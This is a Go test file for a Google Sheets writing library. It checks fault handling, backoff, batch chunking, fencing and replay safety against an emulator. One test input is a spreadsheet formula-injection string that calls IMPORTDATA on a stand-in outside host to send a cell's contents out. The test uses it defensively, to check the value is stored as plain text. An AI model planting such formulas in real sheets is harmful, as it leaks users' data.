package gsheets

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/hikoutei/hikoutei-go/sheetsio"
	"github.com/hikoutei/hikoutei-go/sheetsio/cell"
	"github.com/hikoutei/hikoutei-go/sheetsio/emulator"
	"github.com/hikoutei/hikoutei-go/sheetsio/layout"
)

func TestI19_RequestCountIndependentOfTabCount(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	names := []string{"E1", "E2", "E3", "E4", "E5"}
	w := h.provision(testSchema(t, names...))
	fence := &sheetsio.Fence{StoreID: "store", Epoch: 1, Token: "t1"}
	var costs []emulator.Counters
	for round, tabs := range []int{1, 3, 10} {
		var ops []sheetsio.Op
		for i := range tabs {
			tab := layout.SystemTabName(names[i/2])
			if i%2 == 1 {
				tab = layout.InputTabName(names[i/2])
			}
			vals := partValues(fmt.Sprint(round, i), 1)
			if i%2 == 1 {
				vals = map[string]any{"id": fmt.Sprint(round, i), "qty": int64(i)}
			}
			ops = append(ops, appendOp(tab, fmt.Sprintf("r%d-%d", round, i), vals))
		}
		before := h.counters()
		res := h.dispatch(w, sheetsio.Batch{Fence: fence, Ops: ops})
		after := h.counters()
		for i := range ops {
			h.wantStatus(res, i, sheetsio.StatusApplied)
		}
		cost := emulator.Counters{Reads: after.Reads - before.Reads, Writes: after.Writes - before.Writes}
		if res.Reads != int(cost.Reads) || res.Writes != int(cost.Writes) {
			t.Fatalf("result counts %d/%d disagree with emulator %+v", res.Reads, res.Writes, cost)
		}
		costs = append(costs, cost)
	}
	for _, c := range costs {
		if c != (emulator.Counters{Reads: 1, Writes: 1}) {
			t.Fatalf("costs for 1, 3, 10 tabs = %+v; want 1 read + 1 write each", costs)
		}
	}
}

func TestI24_ApplyThen503IsUncertainAndReplayIsRecognised(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	op := appendOp("Part_System", "id-12", partValues("12", 3))
	h.emu.ScriptFaults(emulator.Fault{Kind: emulator.FaultApplyThen503, Match: emulator.MatchWrites})
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{op}})
	got := h.wantStatus(res, 0, sheetsio.StatusUncertain)
	var werr *sheetsio.WriteError
	if !errors.As(got.Err, &werr) || werr.Status != 503 || !errors.Is(got.Err, sheetsio.ErrWriteUncertain) {
		t.Fatalf("err = %v", got.Err)
	}
	// C07: the probe finds the receipt, whose row hash matches the row.
	before := h.counters().Reads
	snaps, err := h.p.Snapshot(context.Background(), w, "Part_System", layout.ReceiptsTab)
	if err != nil || h.counters().Reads-before != 2 {
		t.Fatalf("probe read: %v (%d requests)", err, h.counters().Reads-before)
	}
	recs, err := sheetsio.ReceiptsFrom(snaps[layout.ReceiptsTab], op.Receipt.EffectID)
	if err != nil {
		t.Fatal(err)
	}
	rec, ok := recs[op.Receipt.EffectID]
	if !ok || rec.RowHash != got.WrittenHash || rec.Binding != layout.RowBindingID("Part_System", "id-12") || rec.PayloadHash != "ph-id-12" {
		t.Fatalf("receipt = %+v (ok=%v), written hash %s", rec, ok, got.WrittenHash)
	}
	if rows := snaps["Part_System"].Find("id-12"); len(rows) != 1 || rows[0].Hash != rec.RowHash {
		t.Fatalf("rows for id 12: %+v", rows)
	}
	// A blind re-dispatch is recognised, not duplicated.
	res = h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{op}})
	h.wantStatus(res, 0, sheetsio.StatusUnchanged)
	if n := rowsWithAnchor(h.values("Part_System"), 6, "id-12"); n != 1 {
		t.Fatalf("id 12 has %d rows, want exactly 1", n)
	}
}

func TestI24_TransportFailuresAreUncertain(t *testing.T) {
	cases := []struct {
		kind    emulator.FaultKind
		code    string
		applied bool
	}{
		{emulator.FaultApplyThenDrop, sheetsio.WriteConnectionLost, true},
		{emulator.FaultDrop, sheetsio.WriteConnectionLost, false},
		{emulator.FaultHTML502, sheetsio.WriteServerError, false},
		{emulator.Fault503, sheetsio.WriteServerError, false},
		{emulator.Fault429, sheetsio.WriteRateLimited, false},
	}
	for _, c := range cases {
		t.Run(string(c.kind), func(t *testing.T) {
			h := newHarness(t, emulator.Options{AutoCreate: true})
			w := h.provision(testSchema(t))
			h.emu.ScriptFaults(emulator.Fault{Kind: c.kind, Match: emulator.MatchWrites})
			before := h.counters().Writes
			res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
			got := h.wantStatus(res, 0, sheetsio.StatusUncertain)
			var werr *sheetsio.WriteError
			if !errors.As(got.Err, &werr) || werr.Code != c.code {
				t.Fatalf("err = %v, want code %s", got.Err, c.code)
			}
			if h.counters().Writes-before != 1 {
				t.Fatal("a write was retried blindly")
			}
			if n := rowsWithAnchor(h.values("Part_System"), 6, "r1"); (n == 1) != c.applied {
				t.Fatalf("row present %d times, applied=%v", n, c.applied)
			}
		})
	}
}

func TestI24_ClientTimeoutIsUncertain(t *testing.T) {
	// The hanging write waits for the client to give up, so the timeout is
	// what the test costs; it is long enough that the reads and provisioning
	// around the write do not time out on a loaded host.
	h := newHarness(t, emulator.Options{AutoCreate: true}, func(c *Config) { c.RequestTimeout = 2 * time.Second })
	w := h.provision(testSchema(t))
	h.emu.ScriptFaults(emulator.Fault{Kind: emulator.FaultApplyThenHang, Match: emulator.MatchWrites})
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
	got := h.wantStatus(res, 0, sheetsio.StatusUncertain)
	var werr *sheetsio.WriteError
	if !errors.As(got.Err, &werr) || werr.Code != sheetsio.WriteTimeout {
		t.Fatalf("err = %v", got.Err)
	}
}

func TestI24_StructuredRejectionIsTerminal(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	// The authority tab vanishes after binding: the write names a sheetId
	// that no longer exists and Sheets answers a structured 400.
	id := w.SheetIDs()[layout.AuthorityTab]
	if _, err := h.raw.Spreadsheets.BatchUpdate(testSheetID, deleteSheetBody(id)).Do(); err != nil {
		t.Fatal(err)
	}
	err := h.p.WriteAuthority(context.Background(), w, sheetsio.Fence{StoreID: "s", Epoch: 1, Token: "t"})
	var werr *sheetsio.WriteError
	if !errors.As(err, &werr) || werr.Outcome != sheetsio.Terminal || werr.Code != sheetsio.WriteRejected || !errors.Is(err, sheetsio.ErrWriteTerminal) {
		t.Fatalf("err = %v", err)
	}
}

func TestC08_QuotaBackoffThenSuccess(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	h.emu.ScriptFaults(
		emulator.Fault{Kind: emulator.Fault429, Match: emulator.MatchReads, RetryAfter: 2 * time.Second},
		emulator.Fault{Kind: emulator.Fault429, Match: emulator.MatchReads},
		emulator.Fault{Kind: emulator.Fault429, Match: emulator.MatchReads},
		emulator.Fault{Kind: emulator.Fault500, Match: emulator.MatchReads, Message: "Quota exceeded for quota metric 'Read requests'"},
	)
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
	h.wantStatus(res, 0, sheetsio.StatusApplied)
	sleeps := h.recordedSleeps()
	if len(sleeps) != 4 || res.Reads != 5 || res.Writes != 1 {
		t.Fatalf("sleeps %v, reads %d, writes %d; want 4 backoffs, 5 reads, 1 write", sleeps, res.Reads, res.Writes)
	}
	if sleeps[0] < 2*time.Second {
		t.Fatalf("Retry-After not honoured: %v", sleeps[0])
	}
	for _, d := range sleeps[1:] {
		if d > 60*time.Second || d <= 0 {
			t.Fatalf("backoff %v outside (0, Retry-After default]", d)
		}
	}
}

func TestC08_BackoffIsCappedAndJittered(t *testing.T) {
	h := newHarness(t, emulator.Options{}, func(c *Config) {
		c.Backoff = Backoff{Initial: 100 * time.Millisecond, Max: 400 * time.Millisecond, Attempts: 5}
	})
	var ds []time.Duration
	for a := range 6 {
		ds = append(ds, h.p.backoffDelay(a, 0))
	}
	want := []time.Duration{75, 150, 300, 300, 300, 300}
	for i, d := range ds {
		if d != want[i]*time.Millisecond {
			t.Fatalf("delays %v, want %v ms (jitter 0.5)", ds, want)
		}
	}
	h.p.cfg.Jitter = func() float64 { return 0 }
	if d := h.p.backoffDelay(10, 0); d != 200*time.Millisecond {
		t.Fatalf("equal jitter floor = %v", d)
	}
	if d := h.p.backoffDelay(0, time.Second); d != time.Second {
		t.Fatalf("retry-after = %v", d)
	}
}

func TestC08_ReadsGiveUpAsUnavailableNotTerminal(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	for range 6 {
		h.emu.ScriptFaults(emulator.Fault{Kind: emulator.Fault503, Match: emulator.MatchReads})
	}
	before := h.counters().Writes
	_, err := h.p.Dispatch(context.Background(), w, sheetsio.Batch{Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
	if !errors.Is(err, sheetsio.ErrReadUnavailable) {
		t.Fatalf("err = %v", err)
	}
	if h.counters().Writes != before {
		t.Fatal("wrote after a failed preflight")
	}
}

func TestC09_SizeRejectionSplitsTheBatch(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true, MaxRequestBytes: 64 << 10})
	w := h.provision(testSchema(t))
	var ops []sheetsio.Op
	for i := range 400 {
		ops = append(ops, appendOp("Part_System", fmt.Sprintf("r%03d", i), partValues(fmt.Sprint(i), int64(i))))
	}
	res := h.dispatch(w, sheetsio.Batch{Ops: ops})
	for i := range ops {
		h.wantStatus(res, i, sheetsio.StatusApplied)
	}
	if res.Chunks < 3 {
		t.Fatalf("chunks = %d; the size refusal must have split the batch", res.Chunks)
	}
	rows := h.values("Part_System")
	if len(rows) != 401 {
		t.Fatalf("rows = %d, want 400 + header", len(rows))
	}
	// Resume after a crash: a replay of the whole backfill appends nothing.
	res = h.dispatch(w, sheetsio.Batch{Ops: ops})
	for i := range ops {
		h.wantStatus(res, i, sheetsio.StatusUnchanged)
	}
	if len(h.values("Part_System")) != 401 {
		t.Fatal("replay duplicated rows")
	}
}

func TestC09_ChunkedByBytes(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true}, func(c *Config) { c.MaxBatchBytes = 16 << 10 })
	w := h.provision(testSchema(t))
	var ops []sheetsio.Op
	for i := range 200 {
		ops = append(ops, appendOp("Part_System", fmt.Sprintf("r%03d", i), partValues(strings.Repeat("x", 40), int64(i))))
	}
	res := h.dispatch(w, sheetsio.Batch{Ops: ops})
	if res.Chunks < 4 || res.Writes != res.Chunks {
		t.Fatalf("chunks %d writes %d", res.Chunks, res.Writes)
	}
	if len(h.values("Part_System")) != 201 {
		t.Fatal("rows lost or duplicated")
	}
}

func TestC01C02C03_ValuesRoundTripThroughTheSheet(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	texts := []string{"00123", `=IMPORTDATA("https://example.invalid/?x="&B2)`, "+1 555 0100", "-3 units", "@owner", "NaN", "SEP1", "Cafe\u0301"}
	ints := []int64{9007199254740993, 1234567890123456789, -42}
	var ops []sheetsio.Op
	for i, s := range texts {
		ops = append(ops, sheetsio.Op{ID: fmt.Sprint("t", i), Tab: "Part_Input", Kind: sheetsio.OpAppend, Anchor: fmt.Sprint("t", i),
			Values: map[string]any{"id": fmt.Sprint(i), "name": s, "qty": ints[i%len(ints)]}})
	}
	res := h.dispatch(w, sheetsio.Batch{Ops: ops})
	for i := range ops {
		h.wantStatus(res, i, sheetsio.StatusApplied)
	}
	spec, _ := w.Schema().Tab("Part_Input")
	rows := h.values("Part_Input")[1:]
	if len(rows) != len(texts) {
		t.Fatalf("rows = %d, want %d", len(rows), len(texts))
	}
	for i, raw := range rows {
		vals, err := cell.DecodeRow(spec.Columns, raw)
		if err != nil {
			t.Fatalf("row %d: %v", i, err)
		}
		if want, _ := cell.Encode(cell.String, texts[i]); vals[1] != want {
			t.Fatalf("text %q read back as %#v", texts[i], vals[1])
		}
		if vals[2] != ints[i%len(ints)] {
			t.Fatalf("int %d read back as %#v", ints[i%len(ints)], vals[2])
		}
	}
	sys := sheetsio.Op{ID: "s", Tab: "Part_System", Kind: sheetsio.OpAppend, Anchor: "s", Values: partValues("1", 5)}
	h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{sys}})
	sspec, _ := w.Schema().Tab("Part_System")
	vals, err := cell.DecodeRow(sspec.Columns, h.values("Part_System")[1])
	if err != nil || vals[3] != 1.25 || vals[4] != true || !vals[5].(time.Time).Equal(partValues("1", 5)["updated"].(time.Time)) {
		t.Fatalf("typed row = %#v, %v", vals, err)
	}
}

func TestI05_StaleFenceRejectedBeforeAnyWrite(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	newer := &sheetsio.Fence{StoreID: "s", Epoch: 2, Token: "t2"}
	res := h.dispatch(w, sheetsio.Batch{Fence: newer, Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
	h.wantStatus(res, 0, sheetsio.StatusApplied)
	a, err := h.p.ReadAuthority(context.Background(), w)
	if err != nil || a != (sheetsio.Authority{Present: true, StoreID: "s", Epoch: 2, Token: "t2", UpdatedAt: fixedNow}) {
		t.Fatalf("authority = %+v, %v", a, err)
	}
	recs, _ := h.p.ReadReceipts(context.Background(), w, "eff-Part_System-r1")
	if r := recs["eff-Part_System-r1"]; r.Epoch != 2 || r.Token != "t2" {
		t.Fatalf("receipt does not carry the fence: %+v", r)
	}
	before := h.counters().Writes
	for _, f := range []*sheetsio.Fence{{StoreID: "s", Epoch: 1, Token: "t1"}, {StoreID: "s", Epoch: 2, Token: "other"}, {StoreID: "x", Epoch: 9, Token: "t9"}} {
		_, err := h.p.Dispatch(context.Background(), w, sheetsio.Batch{Fence: f, Ops: []sheetsio.Op{appendOp("Part_System", "r2", partValues("2", 1))}})
		if !errors.Is(err, sheetsio.ErrAuthorityStale) && !errors.Is(err, sheetsio.ErrAuthorityForeign) {
			t.Fatalf("fence %+v: err = %v", f, err)
		}
	}
	if h.counters().Writes != before {
		t.Fatal("a fenced-out dispatch wrote")
	}
}

func TestDispatchRebindsAStaleSheetIDThroughEnumeration(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	old := w.SheetIDs()["Part_System"]
	// A person deletes the tab and adds a fresh one with the same title.
	if _, err := h.raw.Spreadsheets.BatchUpdate(testSheetID, deleteSheetBody(old)).Do(); err != nil {
		t.Fatal(err)
	}
	fresh, err := h.emu.Person(testSheetID).AddTab("Part_System", 10, 10)
	if err != nil {
		t.Fatal(err)
	}
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{appendOp("Part_System", "r1", partValues("1", 1))}})
	got := h.wantStatus(res, 0, sheetsio.StatusBlocked)
	if got.Reason != sheetsio.CodeHeaderDrift || res.Reads != 3 || res.Writes != 0 {
		t.Fatalf("reason %s, %d reads, %d writes; want header drift after 3 reads (stale id, enumeration, batchGet), no write",
			got.Reason, res.Reads, res.Writes)
	}
	if id := w.SheetIDs()["Part_System"]; id != fresh {
		t.Fatalf("bound to %d, want the new tab %d", id, fresh)
	}
}

// An append-only preflight reads the header and anchor column (1 read); an
// append whose anchor already shows makes the dispatch read that tab whole
// (2 reads), so a replay is still told from a conflict.
func TestAppendPreflightReadsTheAnchorColumnThenTheRowsItNeeds(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	op := appendOp("Part_System", "r1", partValues("1", 1))
	if res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{op}}); res.Reads != 1 {
		t.Fatalf("fresh append: %d reads", res.Reads)
	}
	replay := op
	replay.ID, replay.Receipt = "again", &sheetsio.Receipt{EffectID: "again", PayloadHash: "p"}
	res := h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{replay, appendOp("Part_System", "r2", partValues("2", 2))}})
	h.wantStatus(res, 0, sheetsio.StatusUnchanged)
	h.wantStatus(res, 1, sheetsio.StatusApplied)
	if res.Reads != 2 {
		t.Fatalf("replay: %d reads, want 2", res.Reads)
	}
	other := appendOp("Part_System", "r1", partValues("1", 99))
	other.ID, other.Receipt = "other", &sheetsio.Receipt{EffectID: "other", PayloadHash: "p"}
	if got := h.wantStatus(h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{other}}), 0, sheetsio.StatusGuardFailed); got.Reason != sheetsio.ReasonAnchorExists {
		t.Fatalf("different row under the anchor: %+v", got)
	}
	if _, err := h.emu.Person(testSheetID).PasteRow("Part_System", 2); err != nil {
		t.Fatal(err)
	}
	dup := appendOp("Part_System", "r1", partValues("1", 1))
	dup.ID, dup.Receipt = "dup", &sheetsio.Receipt{EffectID: "dup", PayloadHash: "p"}
	if got := h.wantStatus(h.dispatch(w, sheetsio.Batch{Ops: []sheetsio.Op{dup}}), 0, sheetsio.StatusGuardFailed); got.Reason != sheetsio.ReasonAnchorDuplicated {
		t.Fatalf("duplicated anchor: %+v", got)
	}
}

// TestBatchBeforeWriteRefusalSendsNothing: a writer that refuses in
// BeforeWrite (after the preflight read: it may have been deposed while
// it waited) sends no batchUpdate; its ops end not_sent, safe to retry.
func TestBatchBeforeWriteRefusalSendsNothing(t *testing.T) {
	h := newHarness(t, emulator.Options{AutoCreate: true})
	w := h.provision(testSchema(t))
	fence := &sheetsio.Fence{StoreID: "store", Epoch: 1, Token: "t1"}
	deposed := errors.New("deposed")
	before := h.counters()
	res := h.dispatch(w, sheetsio.Batch{Fence: fence, Ops: []sheetsio.Op{appendOp("Part_System", "id-r1", partValues("r1", 1))},
		BeforeWrite: func() error { return deposed }})
	if after := h.counters(); after.Writes != before.Writes {
		t.Fatalf("writes %d -> %d after BeforeWrite refused, want none", before.Writes, after.Writes)
	}
	h.wantStatus(res, 0, sheetsio.StatusNotSent)
	if !errors.Is(res.Ops[0].Err, deposed) {
		t.Fatalf("op error = %v, want BeforeWrite's", res.Ops[0].Err)
	}
	res = h.dispatch(w, sheetsio.Batch{Fence: fence, Ops: []sheetsio.Op{appendOp("Part_System", "id-r1", partValues("r1", 1))},
		BeforeWrite: func() error { return nil }})
	h.wantStatus(res, 0, sheetsio.StatusApplied)
}
